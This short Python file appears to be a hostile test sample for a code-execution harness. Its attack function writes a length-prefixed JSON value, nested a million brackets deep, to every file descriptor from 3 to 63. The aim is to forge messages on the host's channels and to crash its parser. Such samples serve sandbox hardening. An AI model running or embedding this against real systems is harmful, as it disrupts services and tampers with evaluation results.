"""Answers with nested JSON that no encoder made."""

import os
import struct


def attack(x):
    text = b'{"value": ' + b"[" * 1_000_000 + b"]" * 1_000_000 + b"}"
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("!I", len(text)) + text)
        except OSError:
            pass
